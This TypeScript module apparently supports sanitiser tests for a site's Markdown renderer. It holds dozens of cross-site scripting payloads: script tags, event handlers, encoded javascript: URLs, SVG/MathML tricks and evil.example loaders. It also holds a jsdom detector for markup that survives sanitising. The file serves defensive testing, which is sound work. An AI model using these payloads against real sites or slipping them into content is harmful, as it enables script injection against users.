import { JSDOM } from 'jsdom';

/**
 * Script injection payloads and a browser-grade check for what they leave as markup (docs/decisions/0052-one-markdown-renderer.md).
 * jsdom parses HTML as a browser does (parse5, the HTML standard's tree construction), so markup the sanitiser's
 * own parser reads differently still shows up here. Every payload carries MARK where it would act, or acts
 * through an event handler or a script URL, so a survivor is found by what it is, not by its spelling.
 */
export const MARK = 'XSSMARK';

const js = `alert('${MARK}')`;

/** Raw HTML payloads: script, event handlers on many elements, SVG and MathML, frames, styles, forms, base, meta. */
export const HTML_PAYLOADS = [
  `<script>${js}</script>`,
  `<SCRIPT SRC=https://evil.example/${MARK}.js></SCRIPT>`,
  // The tag manager's loader with another container is a gadget (the CSP refuses it too: docs/decisions/0054-strict-dynamic-csp.md).
  `<script src="https://www.googletagmanager.com/gtm.js?id=GTM-${MARK}"></script>`,
  `<img src=x onerror=${js}>`,
  `<img src="/media/site-image.webp" onerror="${js}">`,
  `<svg onload=${js}><circle r="1" /></svg>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">svg link</text></a></svg>`,
  `<svg><animate onbegin=${js} attributeName=x dur=1s></animate></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${js}">math link</math>`,
  `<details open ontoggle=${js}><summary>details</summary>opened</details>`,
  `<body onload=${js}>`,
  `<p onmouseover="${js}">hover</p>`,
  `<a href="https://example.com/" onclick="${js}">click</a>`,
  `<video><source onerror=${js}></video>`,
  `<audio src=x onerror=${js}></audio>`,
  `<input autofocus onfocus=${js}>`,
  `<marquee onstart=${js}>marquee</marquee>`,
  `<div style="background:url(javascript:${js})">styled</div>`,
  `<p style="position:fixed;inset:0;background:url(https://evil.example/${MARK}.png)">overlay</p>`,
  `<style>body{background:url(https://evil.example/${MARK}.png)}</style>`,
  `<iframe src="https://evil.example/${MARK}"></iframe>`,
  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="https://evil.example/${MARK}.swf">`,
  `<base href="https://evil.example/${MARK}/">`,
  `<form action="https://evil.example/${MARK}"><button>Go</button></form>`,
  `<button formaction="javascript:${js}">button</button>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/${MARK}">`,
  `<link rel="stylesheet" href="https://evil.example/${MARK}.css">`,
  `<template><script>${js}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<!--<img src="--><img src=x onerror=${js}//">`,
  `<a href="javascript:${js}">js link</a>`,
  `<a href="JaVaScRiPt:${js}">mixed case</a>`,
  `<a href="&#106;avascript:${js}">decimal entity</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${js}">hex entities</a>`,
  `<a href="javascript&colon;${js}">named entity</a>`,
  `<a href="java&#x09;script:${js}">tab inside</a>`,
  `<a href=" javascript:${js}">leading space</a>`,
  `<a href="vbscript:msgbox('${MARK}')">vbscript</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<a href="DATA:text/html,<script>${js}</script>">data link in capitals</a>`,
];

/** Markdown payloads: links, images, references and autolinks with script URLs. */
export const MARKDOWN_PAYLOADS = [
  `[md link](javascript:${js})`,
  `[md capitals](JAVASCRIPT:${js})`,
  `[md entity](&#106;avascript:${js})`,
  `[md escaped](javascript:alert\\('${MARK}'\\))`,
  `[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[md vbscript](vbscript:msgbox('${MARK}'))`,
  `![md image](javascript:${js})`,
  `[md reference][evil]\n\n[evil]: javascript:${js}`,
  `<javascript:${js}>`,
  `<data:text/html,${MARK}>`,
];

export const XSS_PAYLOADS = [...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS];

/** A short selection of each kind, for fields with a small limit (a bio, a review reply). */
export const SHORT_PAYLOADS = [
  `<script>${js}</script>`,
  `<img src=x onerror=${js}>`,
  `<details open ontoggle=${js}>d</details>`,
  `<a href="JaVaScRiPt:${js}">x</a>`,
  `<iframe src="https://evil.example/${MARK}"></iframe>`,
  `[x](javascript:${js})`,
];

const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'background', 'srcdoc', 'codebase']);

/** What a URL does, as a browser reads it: whitespace and control characters inside the scheme are ignored. */
function schemeOf(value: string): string {
  // eslint-disable-next-line no-control-regex
  const compact = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
  const match = /^([a-z][a-z0-9+.-]*):/.exec(compact);
  return match ? match[1] : '';
}

const ENTRY_LOADER =
  /^\(\(\)=>\{const s=document\.createElement\('script'\);s\.type='module';s\.crossOrigin='anonymous';s\.fetchPriority='low';s\.integrity="sha384-[A-Za-z0-9+/=]+";s\.src="\/assets\/[\w.-]+\.js";document\.body\.appendChild\(s\)\}\)\(\)$/;

/** The page's own scripts: its bundle, its entry loader, one inline state script, and JSON-LD data that parses as JSON. */
function isPageScript(script: Element, inlineStateSeen: { value: boolean }): boolean {
  const src = script.getAttribute('src');
  if (src !== null) return /^\/(assets|src)\//.test(src) && script.attributes.length <= 4;
  const type = script.getAttribute('type');
  const text = script.textContent ?? '';
  if (type === 'application/ld+json') {
    try {
      JSON.parse(text);
      return true;
    } catch {
      return false;
    }
  }
  // The entry loader (server/platform/pages/scriptIntegrity.ts): it adds one built file of the site's own.
  if (type === null && ENTRY_LOADER.test(text)) return true;
  if (type === null && !inlineStateSeen.value && /^window\.__(APOLLO_STATE|APP_CONFIG)__=/.test(text)) {
    inlineStateSeen.value = true;
    return true;
  }
  return false;
}

/**
 * Everything in the HTML that a payload made: a script (on a page, any but the page's own), an event handler
 * attribute, a script or data URL, a style or attribute carrying MARK. Empty when nothing survived as markup.
 * `page`: a whole page, whose own scripts and meta descriptions are expected; otherwise a rendered fragment.
 */
export function injectedMarkup(html: string, options: { page: boolean }): string[] {
  const { document } = new JSDOM(html).window;
  const found: string[] = [];
  const inlineStateSeen = { value: false };
  for (const element of Array.from(document.querySelectorAll('*'))) {
    const tag = element.localName;
    const where = `<${tag}${Array.from(element.attributes)
      .map((a) => ` ${a.name}="${a.value.slice(0, 60)}"`)
      .join('')}>`;
    if (tag === 'script' && !(options.page && isPageScript(element, inlineStateSeen))) found.push(`script element ${where}`);
    if (tag === 'style' && (element.textContent ?? '').includes(MARK)) found.push(`style element ${where}`);
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) found.push(`event handler ${where}`);
      else if (name === 'style' && !options.page) found.push(`style attribute ${where}`);
      else if (URL_ATTRIBUTES.has(name)) {
        const scheme = schemeOf(attribute.value);
        // An image's own data (the site's lazy-image placeholders): an image runs no script.
        const image = tag === 'img' && name === 'src' && /^data:image\//i.test(attribute.value.trim());
        if (scheme === 'javascript' || scheme === 'vbscript' || (scheme === 'data' && !image)) found.push(`${scheme}: URL ${where}`);
      }
      const description = tag === 'meta' && (element.hasAttribute('name') || element.hasAttribute('property')) && name === 'content';
      if (attribute.value.includes(MARK) && !description && !(tag === 'script' && options.page)) found.push(`marked attribute ${where}`);
    }
  }
  return found;
}

/** The elements and attributes of a fragment, as `tag[attr,attr]`: for checking it against the policy's allowlist. */
export function elementsOf(html: string): string[] {
  const { document } = new JSDOM(`<body>${html}</body>`).window;
  return Array.from(document.body.querySelectorAll('*')).map(
    (element) =>
      `${element.localName}[${Array.from(element.attributes)
        .map((a) => a.name)
        .sort()
        .join(',')}]`,
  );
}
